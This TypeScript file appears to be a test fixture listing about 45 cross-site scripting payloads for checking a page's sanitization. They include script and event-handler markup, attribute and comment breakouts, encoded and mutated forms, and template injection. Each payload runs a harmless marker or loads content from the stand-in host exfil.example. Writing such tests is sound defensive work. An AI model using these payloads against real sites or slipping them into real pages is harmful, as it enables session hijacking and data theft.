/** Code that every payload tries to run, without quotes or spaces. */
const CODE = 'localStorage.stolen=1'
const ELSEWHERE = 'https://exfil.example'

/** Texts that a careless page runs, loads or renders as markup. The shortest field takes 100 characters. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Plain markup.
  `<script>${CODE}</script>`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `<img src=x onerror=${CODE}>`,
  `<IMG/SRC=x OnErRoR=${CODE}>`,
  `<img src=${ELSEWHERE}/a.png>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>">`,
  `<iframe src=javascript:parent.${CODE}></iframe>`,
  `<object data=${ELSEWHERE}/a.html></object>`,
  `<embed src=${ELSEWHERE}/a.swf>`,
  `<details open ontoggle=${CODE}>x</details>`,
  `<input autofocus onfocus=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<audio src=x onerror=${CODE}></audio>`,
  `<body onload=${CODE}>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<style>@import '${ELSEWHERE}/a.css'</style>`,
  `<link rel=stylesheet href=${ELSEWHERE}/a.css>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action=${ELSEWHERE}><button autofocus>Sign in</button></form>`,
  `<a href=javascript:${CODE}>name</a>`,
  // Breaks out of attributes, elements and comments.
  `" onmouseover="${CODE}" style="position:fixed;inset:0`,
  `' autofocus onfocus='${CODE}`,
  `\`onerror=${CODE} \``,
  `</title><img src=x onerror=${CODE}>`,
  `</textarea><img src=x onerror=${CODE}>`,
  `</script><script>${CODE}</script>`,
  `</style><img src=x onerror=${CODE}>`,
  `--><img src=x onerror=${CODE}>`,
  `]]><img src=x onerror=${CODE}>`,
  `";${CODE};"`,
  // Dangerous once decoded, nested or mutated.
  `&lt;img src=x onerror=${CODE}&gt;`,
  `\\u003cimg src=x onerror=${CODE}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${CODE}%3E`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  // Code in templates and URLs.
  `\${${CODE}}`,
  `{{constructor.constructor('${CODE}')()}}`,
  `javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
]
